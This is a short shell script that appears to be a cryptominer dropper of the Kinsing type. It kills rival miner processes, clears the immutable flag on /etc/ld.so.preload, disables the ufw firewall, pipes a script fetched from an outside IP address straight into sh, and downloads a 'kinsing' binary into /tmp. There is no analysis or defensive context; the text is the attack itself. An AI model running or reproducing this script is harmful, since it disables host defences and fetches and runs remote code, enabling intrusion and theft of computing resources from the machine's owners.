#!/bin/sh
pkill -f xmrig; pkill -f kdevtmpfsi; pkill -9 kinsing
ulimit -n 65535; chattr -i /etc/ld.so.preload; ufw disable
curl -fsSL http://198.51.100.23/x.sh | sh
wget -q http://198.51.100.23/kinsing -O /tmp/kinsing
